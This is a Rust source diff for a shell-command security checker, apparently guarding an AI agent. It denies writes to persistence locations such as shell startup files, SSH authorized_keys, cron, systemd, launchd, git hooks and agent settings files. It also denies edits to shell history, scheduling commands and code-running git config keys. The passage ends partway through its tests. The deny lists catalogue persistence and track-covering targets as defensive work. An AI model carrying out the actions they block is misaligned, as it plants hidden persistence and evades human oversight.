@@ -1,7 +1,1262 @@
-//! Phase 4 check 21 (PERSISTENCE_TARGET, §6.3).
+//! Phase 4 check 21 PERSISTENCE_TARGET (§5, §6.3): writes, links, copies, in-place edits and
+//! installs whose target is a persistence location, scheduling and launch commands, and
+//! `git config` writes.
+//!
+//! Also home to the path-glob matcher shared with check 23 ([`super::secrets`]): built-in
+//! lists and the operator's `persistencePaths`/`secretPaths` globs use `*` (within one path
+//! segment), `?` (one byte of a segment) and `**` (any number of whole segments, zero
+//! included). A pattern starts with `~/` (any home directory, P4-R26), `/` (absolute),
+//! `**/` (anywhere) or `<workspace>/`; any other pattern matches anywhere (`**/` is implied).
 
 use super::{CheckCx, Findings};
+use crate::shell::ast::Span;
+use crate::shell::paths::{is_within, resolve};
 use crate::shell::policy::Reason;
+use crate::shell::semantic::{Arg, ExecCommand};
+use crate::shell::verdict::Severity;
+use crate::shell::{EvalContext, Os};
 
-/// Runs check 21 (PERSISTENCE_TARGET, §6.3).
-pub fn run(_cx: &CheckCx<'_>, _out: &mut Findings, _reasons: &mut Vec<Reason>) {}
+/// Check id of PERSISTENCE_TARGET.
+const ID: u8 = 21;
+
+/// Paths longer than this many segments are not glob-matched (a bound on the matcher's work).
+const MAX_SEGMENTS: usize = 1024;
+
+/// Persistence locations of §6.3 (writes, links, copies, in-place edits).
+const PERSISTENCE_LOCATIONS: &[&str] = &[
+    // Shell startup files: run by every new shell.
+    "~/.bashrc",
+    "~/.bash_profile",
+    "~/.bash_login",
+    "~/.bash_logout",
+    "~/.profile",
+    "~/.zshrc",
+    "~/.zshenv",
+    "~/.zprofile",
+    "~/.zlogin",
+    "~/.zlogout",
+    "~/.kshrc",
+    "~/.cshrc",
+    "~/.tcshrc",
+    "~/.config/fish/config.fish",
+    "~/.config/fish/conf.d/**",
+    "/etc/profile",
+    "/etc/profile.d/**",
+    "/etc/bash.bashrc",
+    "/etc/bashrc",
+    "/etc/zsh/**",
+    "/etc/zshrc",
+    // SSH: who may log in, and what runs at login.
+    "~/.ssh/authorized_keys*",
+    "~/.ssh/config",
+    "~/.ssh/rc",
+    "~/.ssh/environment",
+    // Schedulers.
+    "/etc/cron*/**",
+    "/var/spool/cron/**",
+    "/etc/anacrontab",
+    // systemd units.
+    "~/.config/systemd/user/**",
+    "/etc/systemd/system/**",
+    "/lib/systemd/system/**",
+    "/usr/lib/systemd/system/**",
+    // launchd.
+    "~/Library/LaunchAgents/**",
+    "/Library/LaunchAgents/**",
+    "/Library/LaunchDaemons/**",
+    "~/Library/Preferences/com.apple.loginwindow*",
+    // XDG autostart.
+    "~/.config/autostart/**",
+    "/etc/xdg/autostart/**",
+    // init scripts.
+    "/etc/rc.local",
+    "/etc/init.d/**",
+    "/etc/rc*.d/**",
+    // Dynamic linker.
+    "/etc/ld.so.preload",
+    "/etc/ld.so.conf",
+    "/etc/ld.so.conf.d/**",
+    // git hooks and repository config (direct file writes).
+    "**/.git/hooks/**",
+    "**/.git/config",
+    // Agent control files.
+    "**/.claude/settings*.json",
+    "**/.claude/hooks/**",
+    "**/openclaw.json",
+    "~/.openclaw/**",
+    "<workspace>/.openclaw/**",
+    "**/exec-approvals.json",
+    "**/.mcp.json",
+];
+
+/// History files: any write, link, truncate or delete hides what ran (§6.3).
+const HISTORY_FILES: &[&str] = &[
+    "~/.bash_history",
+    "~/.zsh_history",
+    "~/.history",
+    "~/.local/share/fish/fish_history",
+];
+
+/// git configuration keys whose value is run as code (§6.3). `*` stands for one subsection.
+/// `credential.helper` and `alias.*` only count when the value starts with `!`.
+pub(crate) const GIT_CODE_KEYS: &[&str] = &[
+    "core.hookspath",
+    "core.fsmonitor",
+    "core.sshcommand",
+    "core.pager",
+    "core.editor",
+    "core.askpass",
+    "diff.external",
+    "diff.*.command",
+    "diff.*.textconv",
+    "filter.*.clean",
+    "filter.*.smudge",
+    "filter.*.process",
+    "sequence.editor",
+    "gpg.program",
+    "include.path",
+    "includeif.*.path",
+    "uploadpack.packobjectshook",
+];
+
+/// Whether setting git key `key` to `value` makes git run code (§6.3).
+pub(crate) fn git_key_runs_code(key: &str, value: Option<&str>) -> bool {
+    let key = key.to_ascii_lowercase();
+    let bang = value.is_none_or(|v| v.trim_start().starts_with('!'));
+    if key == "credential.helper" || (key.starts_with("credential.") && key.ends_with(".helper")) {
+        return bang;
+    }
+    if key.starts_with("alias.") {
+        return bang;
+    }
+    GIT_CODE_KEYS.iter().any(|p| git_key_matches(p, &key))
+}
+
+/// `section.*.name` matches `section.<anything>.name`.
+fn git_key_matches(pattern: &str, key: &str) -> bool {
+    match pattern.split_once(".*.") {
+        Some((section, name)) => key
+            .strip_prefix(section)
+            .and_then(|r| r.strip_prefix('.'))
+            .and_then(|r| r.rsplit_once('.'))
+            .is_some_and(|(sub, n)| !sub.is_empty() && n == name),
+        None => key == pattern,
+    }
+}
+
+// ---------------------------------------------------------------------------------------
+// Paths and globs (shared with check 23).
+// ---------------------------------------------------------------------------------------
+
+/// The forms of one path operand that are matched against path lists (P4-R26).
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub(crate) struct PathForms {
+    /// Absolute forms: raw (joined, not normalised) and normalised.
+    pub abs: Vec<String>,
+    /// The same paths relative to a home directory (own home, `/home/*`, `/Users/*`, `/root`,
+    /// or a `~user/` prefix), for `~/` patterns.
+    pub home_rel: Vec<String>,
+}
+
+/// Resolves a path operand the way §4 does: `~` expanded, relative paths joined to the
+/// working directory, raw and normalised forms both kept.
+pub(crate) fn path_forms(value: &str, ctx: &EvalContext) -> PathForms {
+    let mut f = PathForms::default();
+    if value.is_empty() {
+        return f;
+    }
+    let home = ctx.home.trim_end_matches('/');
+    let raw = if value == "~" {
+        home.to_string()
+    } else if let Some(rest) = value.strip_prefix("~/") {
+        format!("{home}/{rest}")
+    } else if value.starts_with('/') {
+        value.to_string()
+    } else {
+        let base = if ctx.cwd.is_empty() { "/" } else { &ctx.cwd };
+        format!("{}/{value}", base.trim_end_matches('/'))
+    };
+    let norm = resolve(value, ctx);
+    for p in [raw, norm] {
+        if !f.abs.contains(&p) {
+            f.abs.push(p);
+        }
+    }
+    // `~user/rest`: under "any home directory".
+    if let Some(rest) = value.strip_prefix('~') {
+        if let Some((user, rest)) = rest.split_once('/') {
+            if !user.is_empty() && !user.starts_with(['+', '-']) {
+                f.home_rel
+                    .push(crate::shell::paths::normalize(rest).split_off(1));
+            }
+        }
+    }
+    let abs = f.abs.clone();
+    for p in &abs {
+        if let Some(rel) = home_relative(p, home, ctx.os) {
+            if !f.home_rel.contains(&rel) {
+                f.home_rel.push(rel);
+            }
+        }
+    }
+    f
+}
+
+/// `p` relative to the home directory that contains it, if any.
+fn home_relative(p: &str, home: &str, os: Os) -> Option<String> {
+    if !home.is_empty() && home != "/" && is_within(p, home, os) {
+        return Some(p.get(home.len()..)?.trim_start_matches('/').to_string());
+    }
+    for root in ["/home/", "/Users/", "/var/home/"] {
+        let head = p.get(..root.len());
+        if head.is_some_and(|h| crate::shell::paths::same_path(h, root, os)) {
+            let rest = p.get(root.len()..)?;
+            let (_user, rel) = rest.split_once('/')?;
+            return Some(rel.to_string());
+        }
+    }
+    for root in ["/root/", "/var/root/"] {
+        if let Some(rel) = p.strip_prefix(root) {
+            return Some(rel.to_string());
+        }
+    }
+    None
+}
+
+/// Whether any form of a path matches `pattern` (see the module doc for pattern syntax).
+pub(crate) fn forms_match(pattern: &str, forms: &PathForms, ctx: &EvalContext) -> bool {
+    let fold = ctx.os == Os::Macos;
+    if let Some(rest) = pattern.strip_prefix("~/") {
+        return forms.home_rel.iter().any(|p| glob_match(rest, p, fold));
+    }
+    if let Some(rest) = pattern.strip_prefix("<workspace>/") {
+        if ctx.workspace.is_empty() {
+            return false;
+        }
+        let full = format!("{}/{rest}", ctx.workspace.trim_end_matches('/'));
+        return forms.abs.iter().any(|p| glob_match(&full, p, fold));
+    }
+    if pattern.starts_with('/') || pattern.starts_with("**") {
+        return forms.abs.iter().any(|p| glob_match(pattern, p, fold));
+    }
+    let anywhere = format!("**/{pattern}");
+    forms.abs.iter().any(|p| glob_match(&anywhere, p, fold))
+}
+
+/// The first pattern of `patterns` (then of `extra`) that matches a form of the path.
+pub(crate) fn first_match<'p>(
+    forms: &PathForms,
+    patterns: &'p [&'p str],
+    extra: &'p [String],
+    ctx: &EvalContext,
+) -> Option<&'p str> {
+    patterns
+        .iter()
+        .copied()
+        .chain(extra.iter().map(String::as_str))
+        .find(|p| !p.trim().is_empty() && forms_match(p, forms, ctx))
+}
+
+/// Glob match of a `/`-separated path against a pattern: `**` as a whole segment matches any
+/// number of segments (zero included), `*` any run of bytes within a segment, `?` one byte.
+/// Case-insensitive (ASCII) when `fold`. Linear-with-backtracking, bounded by
+/// `segments(pattern) × segments(path)`.
+pub(crate) fn glob_match(pattern: &str, path: &str, fold: bool) -> bool {
+    // Cheap rejection: every literal segment must occur somewhere in the path.
+    for seg in pattern.split('/') {
+        if !seg.is_empty() && seg != "**" && !seg.contains(['*', '?']) && !contains(path, seg, fold)
+        {
+            return false;
+        }
+    }
+    let p: Vec<&str> = pattern.split('/').collect();
+    let s: Vec<&str> = path.split('/').collect();
+    if s.len() > MAX_SEGMENTS || p.len() > MAX_SEGMENTS {
+        return false;
+    }
+    wildcard(
+        &p,
+        &s,
+        |a, b| *a == "**" && b.is_some(),
+        |a, b| segment_match(a.as_bytes(), b.as_bytes(), fold),
+    )
+}
+
+/// The classic two-pointer wildcard algorithm over any sequence: `is_star(p)` marks items
+/// matching any run, `eq(p, s)` single-item matches.
+fn wildcard<T, U>(
+    p: &[T],
+    s: &[U],
+    is_star: impl Fn(&T, Option<()>) -> bool,
+    eq: impl Fn(&T, &U) -> bool,
+) -> bool {
+    let (mut i, mut j) = (0usize, 0usize);
+    let mut star: Option<(usize, usize)> = None;
+    // Each round advances `j` or the star's mark; both are bounded by `s.len()`.
+    let budget = (s.len() + 1).saturating_mul(p.len() + 2);
+    for _ in 0..budget {
+        if j >= s.len() {
+            break;
+        }
+        match (p.get(i), s.get(j)) {
+            (Some(pi), _) if is_star(pi, Some(())) => {
+                star = Some((i, j));
+                i += 1;
+            }
+            (Some(pi), Some(sj)) if eq(pi, sj) => {
+                i += 1;
+                j += 1;
+            }
+            _ => match star {
+                Some((si, mark)) => {
+                    i = si + 1;
+                    j = mark + 1;
+                    star = Some((si, mark + 1));
+                }
+                None => return false,
+            },
+        }
+    }
+    if j < s.len() {
+        return false;
+    }
+    while p.get(i).is_some_and(|x| is_star(x, Some(()))) {
+        i += 1;
+    }
+    i == p.len()
+}
+
+fn segment_match(p: &[u8], s: &[u8], fold: bool) -> bool {
+    wildcard(
+        p,
+        s,
+        |c, _| *c == b'*',
+        |a, b| *a == b'?' || a == b || (fold && a.eq_ignore_ascii_case(b)),
+    )
+}
+
+fn contains(hay: &str, needle: &str, fold: bool) -> bool {
+    if !fold {
+        return hay.contains(needle);
+    }
+    let (h, n) = (hay.as_bytes(), needle.as_bytes());
+    n.is_empty() || h.windows(n.len()).any(|w| w.eq_ignore_ascii_case(n))
+}
+
+// ---------------------------------------------------------------------------------------
+// Option helpers (shared with checks 15 and 23).
+// ---------------------------------------------------------------------------------------
+
+/// Values of one option in `args`, getopt style (P4-R30): the short letter `short` may be
+/// bundled (`-sSLo FILE`, `-oFILE`); a letter of `short_values` earlier in a bundle takes the
+/// rest as its own value and ends the bundle. The long option `long` may be given in full or
+/// as a prefix of at least 2 characters, with `=VALUE` or a separate value. Options stop at
+/// `--`. Each hit is `(value when Known, span)`; a missing value is `(None, span)`.
+pub(crate) fn option_values(
+    args: &[Arg],
+    short: Option<char>,
+    long: &[&str],
+    short_values: &str,
+) -> Vec<(Option<String>, Span)> {
+    let mut out = Vec::new();
+    let mut i = 0;
+    while let Some(a) = args.get(i) {
+        i += 1;
+        let Some(t) = a.value.as_deref() else {
+            continue;
+        };
+        if t == "--" {
+            break;
+        }
+        if let Some(body) = t.strip_prefix("--") {
+            let (name, inline) = match body.split_once('=') {
+                Some((n, v)) => (n, Some(v)),
+                None => (body, None),
+            };
+            if long_matches(name, long) {
+                match inline {
+                    Some(v) => out.push((Some(v.to_string()), a.span)),
+                    None => {
+                        let next = args.get(i);
+                        out.push((next.and_then(|n| n.value.clone()), a.span));
+                        i += 1;
+                    }
+                }
+            }
+            continue;
+        }
+        let Some(bundle) = t.strip_prefix('-') else {
+            continue;
+        };
+        let Some(s) = short else { continue };
+        if bundle.is_empty() {
+            continue;
+        }
+        for (k, ch) in bundle.char_indices() {
+            let rest = bundle.get(k + ch.len_utf8()..).unwrap_or("");
+            if ch == s {
+                if rest.is_empty() {
+                    out.push((args.get(i).and_then(|n| n.value.clone()), a.span));
+                    i += 1;
+                } else {
+                    out.push((Some(rest.to_string()), a.span));
+                }
+                break;
+            }
+            if short_values.contains(ch) {
+                if rest.is_empty() {
+                    i += 1;
+                }
+                break;
+            }
+        }
+    }
+    out
+}
+
+/// `name` (as given after `--`) is one of `long`, or a prefix of ≥ 2 characters of one.
+pub(crate) fn long_matches(name: &str, long: &[&str]) -> bool {
+    !name.is_empty()
+        && long
+            .iter()
+            .any(|l| *l == name || (name.len() >= 2 && l.starts_with(name)))
+}
+
+/// Whether a short-option bundle (`-xyz`, not `--…`) contains `ch` before any letter of
+/// `short_values` (whose value would swallow the rest).
+pub(crate) fn bundle_has(a: &Arg, ch: char, short_values: &str) -> bool {
+    let t = a.text();
+    let Some(b) = t.strip_prefix('-') else {
+        return false;
+    };
+    if b.starts_with('-') || b.is_empty() {
+        return false;
+    }
+    for c in b.chars() {
+        if c == ch {
+            return true;
+        }
+        if short_values.contains(c) {
+            return false;
+        }
+    }
+    false
+}
+
+/// Operands: known words not starting with `-` (after `--`, every word), skipping the values
+/// of the short options in `short_values` and long options in `long_values`.
+pub(crate) fn operands<'a>(
+    args: &'a [Arg],
+    short_values: &str,
+    long_values: &[&str],
+) -> Vec<&'a Arg> {
+    let mut out = Vec::new();
+    let mut i = 0;
+    let mut done = false;
+    while let Some(a) = args.get(i) {
+        i += 1;
+        let t = a.text();
+        if done || a.value.is_none() {
+            out.push(a);
+            continue;
+        }
+        if t == "--" {
+            done = true;
+            continue;
+        }
+        if let Some(body) = t.strip_prefix("--") {
+            if !body.contains('=') && long_values.contains(&body) {
+                i += 1;
+            }
+            continue;
+        }
+        if let Some(b) = t.strip_prefix('-') {
+            if b.is_empty() {
+                out.push(a);
+                continue;
+            }
+            for (k, c) in b.char_indices() {
+                if short_values.contains(c) {
+                    if b.get(k + c.len_utf8()..).is_some_and(str::is_empty) {
+                        i += 1;
+                    }
+                    break;
+                }
+            }
+            continue;
+        }
+        out.push(a);
+    }
+    out
+}
+
+fn sp(s: Span) -> (u32, u32) {
+    (s.start, s.end)
+}
+
+// ---------------------------------------------------------------------------------------
+// Check 21.
+// ---------------------------------------------------------------------------------------
+
+/// How a command touches a path.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Touch {
+    /// Writes, appends, truncates, copies or moves into, edits in place, installs.
+    Write,
+    /// Creates a link (either end).
+    Link,
+    /// Deletes (only history files count).
+    Delete,
+}
+
+impl Touch {
+    fn verb(self) -> &'static str {
+        match self {
+            Touch::Write => "writes",
+            Touch::Link => "links",
+            Touch::Delete => "deletes",
+        }
+    }
+}
+
+/// Runs check 21 (PERSISTENCE_TARGET).
+pub fn run(cx: &CheckCx<'_>, out: &mut Findings, _reasons: &mut Vec<Reason>) {
+    for c in &cx.model.commands {
+        for (value, span, touch) in targets(c) {
+            target(cx, c, &value, span, touch, out);
+        }
+        scheduling(c, out);
+        git_config(c, out);
+    }
+}
+
+fn target(
+    cx: &CheckCx<'_>,
+    c: &ExecCommand,
+    value: &str,
+    span: Span,
+    touch: Touch,
+    out: &mut Findings,
+) {
+    let forms = path_forms(value, cx.ctx);
+    let hit = first_match(&forms, HISTORY_FILES, &[], cx.ctx)
+        .map(|p| (p, true))
+        .or_else(|| {
+            if touch == Touch::Delete {
+                return None;
+            }
+            first_match(
+                &forms,
+                PERSISTENCE_LOCATIONS,
+                &cx.cfg.persistence_paths,
+                cx.ctx,
+            )
+            .map(|p| (p, false))
+        });
+    if let Some((pattern, history)) = hit {
+        let what = c.base_name().unwrap_or("a redirection");
+        let why = if history {
+            "a shell history file (changing it hides what ran)"
+        } else {
+            "a persistence location (it makes code run later, at login, on a schedule or in another tool)"
+        };
+        out.add(
+            ID,
+            Severity::Deny,
+            sp(span),
+            format!(
+                "`{what}` {} `{value}`, {why}; matched `{pattern}`. Change such files yourself, outside the agent.",
+                touch.verb()
+            ),
+        );
+    }
+}
+
+/// Every path the command writes, links or deletes.
+fn targets(c: &ExecCommand) -> Vec<(String, Span, Touch)> {
+    let mut t: Vec<(String, Span, Touch)> = Vec::new();
+    for r in &c.redirs {
+        if r.op.writes() && r.is_file {
+            if let Some(v) = &r.target {
+                t.push((v.clone(), r.span, Touch::Write));
+            }
+        }
+    }
+    let Some(name) = c.base_name() else {
+        return t;
+    };
+    let args = c.args();
+    let push_ops = |t: &mut Vec<(String, Span, Touch)>, ops: &[&Arg], touch: Touch| {
+        for a in ops {
+            if let Some(v) = &a.value {
+                t.push((v.clone(), a.span, touch));
+            }
+        }
+    };
+    match name {
+        "tee" => push_ops(&mut t, &operands(args, "", &[]), Touch::Write),
+        "cp" | "mv" | "install" | "ginstall" | "gcp" | "gmv" => {
+            if name.ends_with("install") && args.iter().any(|a| bundle_has(a, 'd', "mogtS")) {
+                return t;
+            }
+            copy_targets(
+                args,
+                "StmogZ",
+                &["suffix", "target-directory", "mode", "owner", "group"],
+                Touch::Write,
+                &mut t,
+            );
+        }
+        "ln" | "link" => {
+            let ops = operands(args, "St", &["suffix", "target-directory"]);
+            push_ops(&mut t, &ops, Touch::Link);
+            for (v, s) in option_values(args, Some('t'), &["target-directory"], "S") {
+                if let Some(v) = v {
+                    t.push((v, s, Touch::Link));
+                }
+            }
+            if let [only] = ops.as_slice() {
+                if let Some(v) = &only.value {
+                    let base = v.trim_end_matches('/').rsplit('/').next().unwrap_or(v);
+                    t.push((base.to_string(), only.span, Touch::Link));
+                }
+            }
+        }
+        "rsync" | "scp" => {
+            let ops = operands(
+                args,
+                if name == "rsync" {
+                    "efBMT"
+                } else {
+                    "cDFiJloPSX"
+                },
+                &[],
+            );
+            if let Some((dest, srcs)) = ops.split_last() {
+                if let Some(d) = dest.value.as_deref().filter(|d| !is_remote(d)) {
+                    t.push((d.to_string(), dest.span, Touch::Write));
+                    for s in srcs {
+                        if let Some(b) = s.value.as_deref().and_then(basename) {
+                            t.push((
+                                format!("{}/{b}", d.trim_end_matches('/')),
+                                dest.span,
+                                Touch::Write,
+                            ));
+                        }
+                    }
+                }
+            }
+        }
+        "sed" | "gsed" => {
+            let in_place = args.iter().any(|a| {
+                bundle_has(a, 'i', "efl")
+                    || a.text().strip_prefix("--").is_some_and(|n| {
+                        long_matches(n.split('=').next().unwrap_or(n), &["in-place"])
+                            && n.starts_with("in")
+                    })
+            });
+            if in_place {
+                let has_script_opt = args.iter().any(|a| {
+                    bundle_has(a, 'e', "fl")
+                        || bundle_has(a, 'f', "el")
+                        || a.text().starts_with("--expression")
+                        || a.text().starts_with("--file")
+                });
+                let ops = operands(args, "efl", &["expression", "file", "line-length"]);
+                let files = if has_script_opt {
+                    &ops[..]
+                } else {
+                    ops.get(1..).unwrap_or(&[])
+                };
+                push_ops(&mut t, files, Touch::Write);
+            }
+        }
+        "perl" if args.iter().any(|a| bundle_has(a, 'i', "eEIMmxC")) => {
+            let has_code = args
+                .iter()
+                .any(|a| bundle_has(a, 'e', "iIMmxC") || bundle_has(a, 'E', "iIMmxC"));
+            let ops = operands(args, "eEIM", &[]);
+            let files = if has_code {
+                &ops[..]
+            } else {
+                ops.get(1..).unwrap_or(&[])
+            };
+            push_ops(&mut t, files, Touch::Write);
+        }
+        "dd" => {
+            for a in args {
+                if let Some(v) = a.text().strip_prefix("of=") {
+                    t.push((v.to_string(), a.span, Touch::Write));
+                }
+            }
+        }
+        "sort" | "gsort" => {
+            values_into(&mut t, args, Some('o'), &["output"], "ktSTy", Touch::Write)
+        }
+        "time" => values_into(&mut t, args, Some('o'), &["output"], "f", Touch::Write),
+        "curl" => values_into(
+            &mut t,
+            args,
+            Some('o'),
+            &["output"],
+            "dHXuAeFTwxKbcrmECYyzPQ",
+            Touch::Write,
+        ),
+        "wget" => {
+            values_into(
+                &mut t,
+                args,
+                Some('O'),
+                &["output-document"],
+                "eoaiBtTwQPUlARDIX",
+                Touch::Write,
+            );
+            values_into(
+                &mut t,
+                args,
+                Some('o'),
+                &["output-file"],
+                "eOaiBtTwQPUlARDIX",
+                Touch::Write,
+            );
+            values_into(
+                &mut t,
+                args,
+                Some('a'),
+                &["append-output"],
+                "eOoiBtTwQPUlARDIX",
+                Touch::Write,
+            );
+        }
+        "truncate" => push_ops(
+            &mut t,
+            &operands(args, "sr", &["size", "reference"]),
+            Touch::Write,
+        ),
+        "uniq" => {
+            let ops = operands(args, "fsw", &["skip-fields", "skip-chars", "check-chars"]);
+            if let Some(o) = ops.get(1) {
+                push_ops(&mut t, &[o], Touch::Write);
+            }
+        }
+        "rm" | "unlink" | "shred" | "srm" => {
+            push_ops(&mut t, &operands(args, "nsu", &[]), Touch::Delete)
+        }
+        _ => {}
+    }
+    t.retain(|(v, _, _)| !v.is_empty() && v != "-");
+    t
+}
+
+fn values_into(
+    t: &mut Vec<(String, Span, Touch)>,
+    args: &[Arg],
+    short: Option<char>,
+    long: &[&str],
+    short_values: &str,
+    touch: Touch,
+) {
+    for (v, s) in option_values(args, short, long, short_values) {
+        if let Some(v) = v {
+            t.push((v, s, touch));
+        }
+    }
+}
+
+/// `cp`/`mv`/`install`: the destination (last operand or `-t DIR`) and, for copies into a
+/// directory, `DIR/<basename of each source>`.
+fn copy_targets(
+    args: &[Arg],
+    short_values: &str,
+    long_values: &[&str],
+    touch: Touch,
+    t: &mut Vec<(String, Span, Touch)>,
+) {
+    let ops = operands(args, short_values, long_values);
+    let dirs = option_values(args, Some('t'), &["target-directory"], "Smog");
+    let (dests, srcs): (Vec<(String, Span)>, &[&Arg]) = if dirs.is_empty() {
+        match ops.split_last() {
+            Some((d, s)) if !s.is_empty() => (
+                d.value.clone().map(|v| (v, d.span)).into_iter().collect(),
+                s,
+            ),
+            _ => (Vec::new(), &[]),
+        }
+    } else {
+        (
+            dirs.into_iter()
+                .filter_map(|(v, s)| v.map(|v| (v, s)))
+                .collect(),
+            &ops[..],
+        )
+    };
+    for (d, span) in dests {
+        t.push((d.clone(), span, touch));
+        for s in srcs {
+            if let Some(b) = s.value.as_deref().and_then(basename) {
+                t.push((format!("{}/{b}", d.trim_end_matches('/')), span, touch));
+            }
+        }
+    }
+}
+
+fn basename(v: &str) -> Option<&str> {
+    v.trim_end_matches('/')
+        .rsplit('/')
+        .next()
+        .filter(|b| !b.is_empty())
+}
+
+/// `host:path` or `user@host:path` (rsync/scp remote operand).
+fn is_remote(v: &str) -> bool {
+    match v.split_once(':') {
+        Some((head, _)) => !head.contains('/') && !head.is_empty(),
+        None => false,
+    }
+}
+
+fn deny(out: &mut Findings, c: &ExecCommand, msg: String) {
+    out.add(ID, Severity::Deny, sp(c.span), msg);
+}
+
+/// Scheduling and launch commands (§5 check 21).
+fn scheduling(c: &ExecCommand, out: &mut Findings) {
+    let Some(name) = c.base_name() else { return };
+    let args = c.args();
+    let help = args
+        .iter()
+        .any(|a| matches!(a.text(), "--help" | "--version" | "-V" | "-h"));
+    match name {
+        "crontab" => {
+            let ops = operands(args, "uc", &[]);
+            let edit = args.iter().any(|a| bundle_has(a, 'e', "uc"));
+            let listing = args
+                .iter()
+                .any(|a| bundle_has(a, 'l', "uc") || bundle_has(a, 'r', "uc"));
+            let from_stdin =
+                ops.is_empty() && !edit && !listing && (c.piped_stdin || c.stdin_heredoc);
+            if !help && (!ops.is_empty() || edit || from_stdin) {
+                deny(out, c, "`crontab` installs or edits a cron table: a command scheduled to run later. Schedule jobs yourself, outside the agent.".into());
+            }
+        }
+        "at" | "batch" => {
+            let query = args.iter().any(|a| {
+                ['l', 'c', 'd', 'r']
+                    .iter()
+                    .any(|f| bundle_has(a, *f, "qft"))
+            });
+            if !help && !query {
+                deny(out, c, format!("`{name}` schedules a command to run later. Schedule jobs yourself, outside the agent."));
+            }
+        }
+        "systemd-run" if args.iter().any(|a| a.text().starts_with("--on-")) => {
+            deny(
+                out,
+                c,
+                "`systemd-run --on-…` creates a timer that runs a command later.".into(),
+            );
+        }
+        "systemctl" => {
+            let user = args.iter().any(|a| a.is("--user"));
+            let sub = operands(
+                args,
+                "HMtpoPn",
+                &[
+                    "host",
+                    "machine",
+                    "type",
+                    "property",
+                    "output",
+                    "lines",
+                    "root",
+                    "state",
+                    "signal",
+                    "kill-whom",
+                ],
+            )
+            .first()
+            .map(|a| a.text());
+            if user
+                && matches!(
+                    sub,
+                    Some("enable" | "link" | "edit" | "add-wants" | "add-requires" | "reenable")
+                )
+            {
+                deny(out, c, format!("`systemctl --user {}` installs a user service that starts by itself later.", sub.unwrap_or("")));
+            }
+        }
+        "launchctl" => {
+            let sub = args.first().map(Arg::text);
+            if matches!(sub, Some("load" | "bootstrap" | "submit" | "enable")) {
+                deny(
+                    out,
+                    c,
+                    format!(
+                        "`launchctl {}` installs a launchd job that starts by itself later.",
+                        sub.unwrap_or("")
+                    ),
+                );
+            }
+        }
+        _ => {}
+    }
+}
+
+/// Global options of `git` that take a separate value.
+const GIT_GLOBAL_VALUES: &[&str] = &[
+    "-C",
+    "-c",
+    "--git-dir",
+    "--work-tree",
+    "--namespace",
+    "--config-env",
+    "--super-prefix",
+    "--exec-path",
+    "--list-cmds",
+];
+
+/// The index (into args) of git's subcommand, after its global options.
+pub(crate) fn git_subcommand(args: &[Arg]) -> Option<usize> {
+    let mut i = 0;
+    while let Some(a) = args.get(i) {
+        let t = a.value.as_deref()?;
+        if !t.starts_with('-') {
+            return Some(i);
+        }
+        if GIT_GLOBAL_VALUES.contains(&t) && t != "--exec-path" {
+            i += 1;
+        }
+        i += 1;
+    }
+    None
+}
+
+/// `git config` writes (§6.3): a code-executing key → deny, any other key → ask.
+fn git_config(c: &ExecCommand, out: &mut Findings) {
+    if c.base_name() != Some("git") {
+        return;
+    }
+    let args = c.args();
+    let Some(sub_i) = git_subcommand(args) else {
+        return;
+    };
+    if !args.get(sub_i).is_some_and(|a| a.is("config")) {
+        return;
+    }
+    let rest = args.get(sub_i + 1..).unwrap_or(&[]);
+    let flag = |names: &[&str]| rest.iter().any(|a| names.contains(&a.text()));
+    let read_only = flag(&[
+        "--get",
+        "--get-all",
+        "--get-regexp",
+        "--get-urlmatch",
+        "--list",
+        "-l",
+        "--get-color",
+        "--get-colorbool",
+        "get",
+        "list",
+    ]);
+    if read_only {
+        return;
+    }
+    let ops = operands(
+        rest,
+        "f",
+        &["file", "blob", "type", "default", "comment", "value", "url"],
+    );
+    let ops: Vec<&Arg> = ops
+        .into_iter()
+        .filter(|a| {
+            !matches!(
+                a.text(),
+                "set" | "unset" | "edit" | "rename-section" | "remove-section"
+            )
+        })
+        .collect();
+    let edit = flag(&["--edit", "-e", "edit"]);
+    let unset = flag(&[
+        "--unset",
+        "--unset-all",
+        "unset",
+        "--remove-section",
+        "--rename-section",
+        "remove-section",
+        "rename-section",
+    ]);
+    let setting = flag(&["set", "--add", "--replace-all"]) || ops.len() >= 2;
+    if !(setting || edit || unset) {
+        return;
+    }
+    if setting {
+        if let Some(key) = ops.first() {
+            let value = ops.get(1).and_then(|v| v.value.as_deref());
+            match key.value.as_deref() {
+                Some(k) if git_key_runs_code(k, value) => {
+                    out.add(ID, Severity::Deny, sp(c.span), format!("`git config {k}` sets a key whose value git runs as code (a hook path, pager, editor, helper or filter); it was not run. Change git configuration yourself."));
+                    return;
+                }
+                None => {
+                    out.add(ID, Severity::Deny, sp(c.span), "`git config` sets a key whose name is computed at run time; it could be a code-executing key.");
+                    return;
+                }
+                Some(_) => {}
+            }
+        }
+    }
+    out.add(
+        ID,
+        Severity::Ask,
+        sp(c.span),
+        "`git config` changes git configuration; it needs approval.",
+    );
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::shell::{evaluate, BashSecurityConfig, Verdict};
+
+    fn ctx(os: Os) -> EvalContext {
+        EvalContext {
+            home: "/home/u".into(),
+            cwd: "/home/u/ws".into(),
+            workspace: "/home/u/ws".into(),
+            os,
+            env_keys: Vec::new(),
+        }
+    }
+
+    fn has21(cmd: &str, sev: Severity) -> bool {
+        let e = evaluate(cmd, &ctx(Os::Linux), &BashSecurityConfig::default());
+        e.findings.iter().any(|f| f.id == ID && f.severity == sev)
+    }
+
+    #[test]
+    fn glob_matcher_handles_stars_and_double_stars() {
+        assert!(glob_match("/etc/cron*/**", "/etc/cron.d/job", false));
+        assert!(glob_match("/etc/cron*/**", "/etc/crontab", false));
+        assert!(glob_match(
+            "**/.git/hooks/**",
+            "/a/b/.git/hooks/pre-commit",
+            false
+        ));
+        assert!(!glob_match("**/.git/hooks/**", "/a/b/.git/config", false));
+        assert!(glob_match(
+            "**/.claude/settings*.json",
+            "/w/.claude/settings.local.json",
+            false
+        ));
+        assert!(glob_match(
+            ".ssh/authorized_keys*",
+            ".ssh/authorized_keys2",
+            false
+        ));
+        assert!(!glob_match(".ssh/authorized_keys*", ".ssh/id_rsa", false));
+        assert!(glob_match("a/?/c", "a/b/c", false));
+        assert!(!glob_match("a/?/c", "a/bb/c", false));
+        assert!(glob_match(
+            "Library/LaunchAgents/**",
+            "library/launchagents/x.plist",
+            true
+        ));
+        assert!(!glob_match(
+            "Library/LaunchAgents/**",
+            "library/launchagents/x.plist",
+            false
+        ));
